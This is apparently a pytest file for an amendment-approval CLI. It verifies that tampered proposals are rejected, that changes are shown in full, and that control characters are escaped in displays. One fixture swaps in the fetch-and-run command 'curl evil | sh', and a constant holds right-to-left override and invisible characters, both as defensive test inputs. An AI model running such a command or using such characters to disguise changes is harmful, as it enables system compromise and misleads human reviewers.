"""A person signs exactly the change that was shown."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.amendments.support import LONGER, Keys, Place

Row = dict[str, Any]


def _other_command(bodies: list[Row]) -> list[Row]:
    for body in bodies:
        if body["type"] == "amendment.proposed":
            body["data"]["changes"]["parameters"] = {
                "command": {"old": "echo $WFCTL_PARAM_n > out.txt", "new": "curl evil | sh"}
            }
    return bodies


def _other_value(bodies: list[Row]) -> list[Row]:
    for body in bodies:
        if body["type"] == "amendment.proposed":
            body["data"]["changes"]["parameters"]["n"]["new"] = 99
    return bodies


def _other_reason(bodies: list[Row]) -> list[Row]:
    for body in bodies:
        if body["type"] == "amendment.proposed":
            body["data"]["reason"] = "as the PI wished"
    return bodies


@pytest.mark.parametrize("swap", [_other_command, _other_value, _other_reason])
def test_proposal_changed_after_it_was_shown_is_not_signed(
    swap: Callable[[list[Row]], list[Row]], signed: Place, keys: Keys
) -> None:
    """`approve` exits with code 4 if the amendment no longer matches the shown digest."""
    signed.finish("stage-1")
    signed.propose(*LONGER)
    digest = signed.done("amend", "show", "amend-1")["impact"]["digest"]
    signed.edit_rows(swap)
    before = signed.definition()
    answer = signed.json("amend", "approve", "amend-1", "--key", str(keys.allowed), *agreed(digest))
    assert (answer.code, answer.error["code"]) == (4, "impact_changed")
    assert signed.definition() == before


def agreed(digest: str) -> tuple[str, str]:
    """Return the option with the digest that was shown."""
    return ("--impact", digest)


def test_change_is_shown_in_full_before_the_key_is_used(
    signed: Place, keys: Keys, tmp_path: Path
) -> None:
    """`approve` shows old and new values in full, even if the key file does not exist."""
    long = "x" * 5_000
    change = f"parameters.command=echo {long} > out.txt"
    signed.propose("--stage", "stage-1", "--set", change, "--reason", "r")
    missing = signed.json("amend", "approve", "amend-1", "--key", str(tmp_path / "none"))
    assert missing.code != 0
    for answer in (missing, signed.json("amend", "approve", "amend-1", "--key", str(keys.allowed))):
        assert f'"echo {long} > out.txt"' in answer.err
        assert '"echo $WFCTL_PARAM_n > out.txt"' in answer.err


def test_description_of_a_proposal_does_not_replace_the_change(signed: Place, keys: Keys) -> None:
    """Every view of a pending amendment shows the changed values next to its description."""
    signed.propose(*LONGER, "--description", "fix a typing error")
    for words in (("amend", "list"), ("amend", "show", "amend-1")):
        shown = signed.call(*words).out
        assert "parameters.n: 1 -> 2" in shown
    answer = signed.call("amend", "approve", "amend-1", "--key", str(keys.allowed))
    assert "parameters.n: 1 -> 2" in answer.err
    assert answer.err.index("fix a typing error") < answer.err.index("parameters.n: 1 -> 2")


#: A one-byte control code, a right-to-left override, and invisible characters.
STEERING = "\x9b2J \u202esehtaerht \u200b \u3164 \u034f"


def test_control_codes_in_a_proposal_are_escaped_in_every_display(
    signed: Place, keys: Keys
) -> None:
    """The terminal and the audit escape control codes in every text of a proposal."""
    words = ("--set", f"parameters.n={STEERING}", "--set", f"parameters.a{STEERING}=1")
    more = ("--reason", STEERING, "--description", STEERING)
    answers = [
        signed.call("amend", "propose", "--stage", "stage-1", *words, *more),
        signed.call("amend", "show", "amend-1"),
        signed.call("amend", "list"),
    ]
    approved = signed.call("amend", "approve", "amend-1", "--key", str(keys.allowed))
    answers.append(signed.call("amend", "show", "amend-1"))
    assert [answer.code for answer in (*answers, approved)] == [0] * 5
    for shown in (approved.err, *(answer.out for answer in answers)):
        assert not any(letter in shown for letter in "\x9b\u202e\u200b\u3164\u034f")
    assert "\\x9b2J \\u202esehtaerht" in answers[1].out
